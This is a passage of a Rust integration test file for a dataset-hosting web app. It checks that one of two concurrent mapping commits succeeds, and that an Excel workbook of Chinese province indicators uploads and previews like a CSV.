        ("map.0.id", "rd_staff"),
        ("map.0.dimension", "laborers"),
        ("map.0.direction", "+"),
    ];
    let (a, b) = tokio::join!(
        app.post_form(&url, Some(&cookie), &form),
        app.post_form(&url, Some(&cookie), &form)
    );
    let statuses = [a.status, b.status];
    assert_eq!(
        statuses
            .iter()
            .filter(|s| **s == StatusCode::SEE_OTHER)
            .count(),
        1,
        "{statuses:?}"
    );
    assert!(statuses.iter().any(|s| s.is_client_error()), "{statuses:?}");
    let list = app.get("/datasets?lang=en", None).await;
    assert_eq!(
        list.count("#dataset-cn-provinces-recent table.versions tbody tr"),
        2,
        "v1 + one commit"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_excel_workbook_uploads_like_a_csv() {
    let app = StoreApp::new();
    let (cookie, csrf) = app.sign_in().await;
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (c, h) in ["region", "year", "indicator", "value"].iter().enumerate() {
        sheet.write_string(0, c as u16, *h).unwrap();
    }
    let mut row = 1;
    for region in ["北京市", "上海市", "广东省"] {
        for year in [2021, 2022] {
            for (k, ind) in ["l", "t", "o"].iter().enumerate() {
                sheet.write_string(row, 0, region).unwrap();
                sheet.write_number(row, 1, f64::from(year)).unwrap();
                sheet.write_string(row, 2, *ind).unwrap();
                sheet
                    .write_number(row, 3, f64::from(row) + k as f64 * 0.5)
                    .unwrap();
                row += 1;
            }
        }
    }
    let bytes = book.save_to_buffer().unwrap();
    let res = app
        .upload_new(&cookie, &csrf, "from-excel", &[("data.xlsx", &bytes)])
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let preview = app.get(&location(&res), Some(&cookie)).await;
    let cells = preview.select_texts("table#files-table tbody td");
    assert_eq!(cells[0], "spreadsheet");
    assert_eq!(cells[1], "long");
    assert_eq!(preview.select_texts("#region-set"), vec!["cn-provinces"]);
    assert_eq!(preview.select_texts("#regions-count"), vec!["3"]);
    assert_eq!(preview.count("fieldset.mapping"), 3);
}
